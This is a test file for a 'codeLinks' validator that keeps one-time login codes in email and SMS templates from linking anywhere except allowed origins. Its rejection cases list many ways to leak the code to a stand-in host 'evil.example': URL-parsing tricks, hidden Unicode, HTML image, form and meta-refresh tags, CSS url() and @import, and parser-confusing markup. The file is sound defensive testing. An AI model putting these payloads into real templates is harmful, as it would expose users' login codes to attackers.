import { describe, expect, test } from "bun:test";
import fc from "fast-check";
import { codeLinks } from "sealpost/plugin";

const BASE = "https://id.example.org";
const OPTIONS = { codes: ["code"], links: ["link"], origins: ["https://app.example.net"] };
const checkText = codeLinks(OPTIONS);
const checkHtml = codeLinks({ ...OPTIONS, html: true });
const ELSEWHERE = expect.stringContaining(
  "must lead to https://id.example.org or https://app.example.net; put blanks around",
);

describe("in a text, codeLinks() allows", () => {
  test.each([
    "Your code is {code}",
    "Code:{code}.",
    "({code})",
    "Es ist „{code}“!",
    "G-{code}",
    "{code}, {code}; *{code}*",
    "to={username}&text= {code}",
    "user=app&text={code}",
    "{username}|{code}|{username}",
    "<to>x</to><text>{code}</text>",
    "{{code}} https://evil.example/{{code}}",
    "https://docs.example.com/help {code}",
    "{link}",
    "<{link}>.",
    "{url}/reset?user={username}&code={code}",
    "(https://app.example.net/#{code})",
    "<URL:{url}/reset#\n  {code}>",
    "Code\u202f: {code}\u00a0!",
    "Votre code :\u202f{code}",
    "«\u202f{code}\u202f»",
    "Code:\ufeff{code}\u2028Bye",
    '"SMS: {code}"',
    "<Tel: {code}>",
    "\u3000{code}\u3000https://docs.example.com/help",
    '{"to":"{username}","text":"Code: {code}. See https://docs.example.com/help."}',
    '"https://docs.example.com/help" {code} "x"',
    "HTTPS://ID.example.org:443/#{code}",
  ])("%s", (template) => {
    expect(checkText(template, BASE)).toBeNull();
  });
});

describe("in a text, codeLinks() rejects", () => {
  test.each([
    "https://evil.example/reset#{code}",
    "https://evil.example/reset#\u202f{code}",
    "<sms:+491234?body={code}>",
    "<sms: +491234?body={code}>",
    "<sms:+491234?body= {code}>",
    "HTTPS://EVIL.example/{code}",
    "http://id.example.org/{code}",
    "https://id.example.org@evil.example/{code}",
    "https://id.example.org:8443/{code}",
    "https://user:pw@id.example.org/{code}",
    "https://id.example.org\\@evil.example/{code}",
    "https://id.example.org/\\evil.example/{code}",
    "https://id.example.org/,https://evil.example/{code}",
    "https://id.example.org/'evil.example/{code}",
    "{url}@evil.example/{code}",
    "{url}.evil.example/{code}",
    "{url}{code}.evil.example",
    "https://{code}.evil.example/",
    "//evil.example/{code}",
    "\\\\evil.example\\{code}",
    "https:/evil.example/{code}",
    "https:evil.example/{code}",
    "ht\ttps://evil.example/{code}",
    "evil.example/{code}",
    "evil。example/{code}",
    "{code}.evil.example",
    "{code}@evil.example",
    "mailto:mallory@evil.example?body={code}",
    "mailto:{code}",
    "javascript:{code}",
    "data:,{code}",
    "{username}{code}",
    "{username}//{code}",
    "https://evil.example/{username}|{code}",
    "{username}.|{code}",
    "https://evil.example/{{{code}}}",
    "https://evil.example/\u200b{code}",
    "https://evil.example/?{link}",
    "<https://evil.example/reset# {code}>",
    "< HTTPS://evil.example/reset#\r\n\t{code} >",
    "<https://evil.example/reset#\u00a0{code}>",
    "<https://evil.example/reset#\u2028{code}>",
    "<URL:https://evil.example/reset#\n{code}>",
    "<//evil.example/ {code}>",
    "<www.evil.example/ {code}>",
    "<mailto:mallory@evil.example?body= {code}>",
    '"https://evil.example/reset?c= {code}"',
    'x" https://evil.example/reset?c= {code} "',
    '"x" "https://evil.example/reset?c= {code}"',
    "https://evil.example/\ufeff{code}",
    "https://evil.example/\u2028{code}",
    "https://evil.example/\u2009{code}",
  ])("%s", (template) => {
    expect(checkText(template, BASE)).toEqual(ELSEWHERE);
  });
});

describe("in HTML, codeLinks() allows", () => {
  test.each([
    "<p>Your code is</p><p style='color:red'><strong>{code}</strong></p>",
    "Hello<br>{code}<br/>See <a href=https://docs.example.com/a?b>https://docs.example.com</a> {code}",
    "<!doctype html><title>{code}</title><style>p > b {{}}</style><table width=100%><td>x.<td>{code}</table>",
    '<a href="{url}/reset?user={username}&code={code}">Reset</a>',
    '<a href=\'{link}\'>{link}</a> <img src="https://cdn.example.com/x.png" alt="a > b">',
    "<p>{url}/reset?user=x&amp;code={code} or &bdquo;{code}&ldquo;&nbsp;x</p>",
    "<!--[if mso]><table><tr><td><![endif]--><b>{code}</b><!--[if mso]></td></tr></table><![endif]-->",
    "<!--[if !mso]><!--><b>{code}</b><!--<![endif]-->",
    '<link rel="stylesheet" href="{url}/mail.css"><p style="background:url(https://cdn.example.com/x.png)">{code}</p>',
    "<textarea>Tom &amp; Jerry</textarea><noscript>a & b</noscript><p>{code}</p>",
    '<link rel="icon" href="https://cdn.example.com/x.png"><p>Votre code :&#8239;{code}</p>',
    "<a href='https://evil.example/'>no code</a",
  ])("%s", (template) => {
    expect(checkHtml(template, BASE)).toBeNull();
  });
});

describe("in HTML, codeLinks() rejects", () => {
  test.each([
    '<a href="https://evil.example/{code}">x</a>',
    '<a href="&#104;ttps://evil.example/{code}">x</a>',
    '<a href="//evil.example/{code}">x</a>',
    '<a href=" https://id.example.org/{code}">x</a>',
    '<a href="https://id.example.org&commat;evil.example/{code}">x</a>',
    '<a href="java\nscript:{code}">x</a>',
    '<base href="https://evil.example/"><a href="/{code}">x</a>',
    '<base href="https://evil.example/"><a href="{code}">x</a>',
    "<img src=https://evil.example/{code}>",
    '<img srcset="https://id.example.org/{code} 1x">',
    '<p style="background:url(https://evil.example/{code})">',
    "<style>p{{background:url(https://evil.example/{code})}}</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/{code}">',
    '<form action="https://evil.example/"><textarea name="c">{code}</textarea></form>',
    '<form action="https://evil.example/"><select><option>{code}</option></select></form>',
    '<button formaction="https://evil.example/">x</button><input value="{code}">',
    '<a href="https://id.example.org/{code}" ping="https://evil.example/">x</a>',
    "<p>https://evil.example/<b>{code}</b></p>",
    "<p>&#104;ttps://evil.example/{code}</p>",
    "<p>evil&period;example&sol;{code}</p>",
    "<p>&lt;https://evil.example/# {code}&gt;</p>",
    "<p>&quot;https://evil.example/#&#xfeff;{code}&quot;</p>",
    "<style>@import 'https://evil.example/x.css';</style><a href=\"{link}\">x</a>",
    '<style>@IMPORT url(https://evil.example/x.css);</style><a href="{link}">x</a>',
    "<style>a[href*='42'] {{ background: URL(https://evil.example/42) }}</style><a href=\"{link}\">x</a>",
    "<style>a {{ background: -webkit-image-set('https://evil.example/42' 1x) }}</style><a href=\"{link}\">x</a>",
    '<style>a {{ background: \\75rl(https://evil.example/42) }}</style><a href="{link}">x</a>',
    '<svg><style>a {{ background: u&#114;l(https://evil.example/42) }}</style></svg><a href="{link}">x</a>',
    '<!--[if mso]><style>@import "x";</style><![endif]--><a href="{link}">x</a>',
    '<link rel=stylesheet href="https://evil.example/x.css"><a href="{link}">x</a>',
    '<link rel="style&#115;heet" href="//evil.example/x.css"><a href="{link}">x</a>',
    "<p>https://id.example.org/&nbspevil.example/{code}</p>",
    '<!--[if mso]><a href="https://evil.example/{code}">x</a><![endif]-->',
  ])("%s", (template) => {
    expect(checkHtml(template, BASE)).not.toBeNull();
  });
});

describe("codeLinks() rejects HTML that two parsers may read differently, if it has a code", () => {
  test.each([
    "<img src='https://evil.example/? {code}",
    '<a href="https://evil.example/?>x {code} <">',
    '<title><a title="</title><a href=\'https://evil.example/?">{code}<b x="\'>',
    "<title></titlex><a href='https://evil.example/?\">{code}<b x=\"'></title>",
    '<!--><a href="https://evil.example/?-->{code}<i x="">',
    '<!-- --!><a href="https://evil.example/?-->{code}<i x="">',
    '<a href=https://evil.example/href="https://id.example.org/{code}">',
    '<style><!-- </style><a href="https://evil.example/?{code}"> --></style>',
    '<!--[if mso]><b x="<![endif]--><a href="https://evil.example/?{code}">',
    '<svg><![CDATA[<a href="]]>https://evil.example/{code}">',
    '<p a"b>{code}<p c"d>',
  ])("%s", (template) => {
    expect(checkHtml(template, BASE)).not.toBeNull();
    expect(checkHtml(template.replace("{code}", "{username}"), BASE)).toBeNull();
  });
});

test("without a base URL, only named origins are allowed", () => {
  expect(checkText("{code}", "")).toBeNull();
  expect(checkText("https://app.example.net/#{code}", "")).toBeNull();
  expect(checkText("{url}//evil.example/{code}", "")).toContain("https://app.example.net");
  for (const template of ["{link}", "{url}/reset#{code}", "https://id.example.org/{code}"]) {
    expect(codeLinks({ ...OPTIONS, origins: [] })(template, "")).toBe(
      "a URL with a code needs SEALPOST_BASE_URL, or the plugin option linkOrigins; put blanks around a code elsewhere",
    );
  }
});

/** What mail programs make a link of, more than any one of them: a scheme, or a name with a dot, up to a blank or a quote. */
const LINK = /(?:[a-z][a-z\d+.-]*:|\/\/|\\\\)[^\s<>"]*|[\p{L}\d-]+(?:[.。．｡][\p{L}\d-]+)+[^\s<>"]*/giu;
const pieces = fc.array(
  fc.constantFrom(
    ...["{code}", "{code}", "{username}", "{url}", "{link}", " ", "\n", "\t", "https://", "HTTP:", "//", "/"],
    ...[
      "\\",
      "@",
      "?",
      "#",
      "&",
      "=",
      ".",
      "。",
      ",",
      ":",
      "(",
      ")",
      "'",
      '"',
      "<",
      ">",
      "evil.example",
      "x",
    ],
    ...["id.example.org", "app.example.net", "mailto:", "https://id.example.org", "\u200b"],
  ),
  { maxLength: 9 },
);

test("whatever the template, every link with the code that people see leads to an allowed origin", () => {
  let allowed = 0;
  fc.assert(
    fc.property(pieces, (given) => {
      const template = given.join("");
      if (checkText(template, BASE) !== null) return;
      const values = { code: "424242", username: "x", url: BASE, link: `${BASE}/recover/reset#424242` };
      const text = template.replace(/\{(\w+)\}/g, (_, tag: keyof typeof values) => values[tag]);
      const links = (text.match(LINK) ?? []).filter((link) => link.includes("424242"));
      for (const link of links) {
        expect([template, ["https://id.example.org", "https://app.example.net"]]).toEqual([
          template,
          expect.arrayContaining([URL.parse(link)?.origin]),
        ]);
        allowed += 1;
      }
    }),
    { numRuns: 4_000, seed: 1 },
  );
  expect(allowed).toBeGreaterThan(20);
});

test("the longest templates are checked quickly", () => {
  const started = performance.now();
  for (const unit of ["'", "&", "<", " ", "a=", "{code}", "&#", "<!--", "{code}.", "<a "]) {
    const long = unit.repeat(20_000 / unit.length);
    for (const template of [`${long}{code}`, `<a ${long}{code}`, `<a x="${long}">{code}`]) {
      checkText(template, BASE);
      checkHtml(template, BASE);
    }
  }
  expect(performance.now() - started).toBeLessThan(5_000);
});
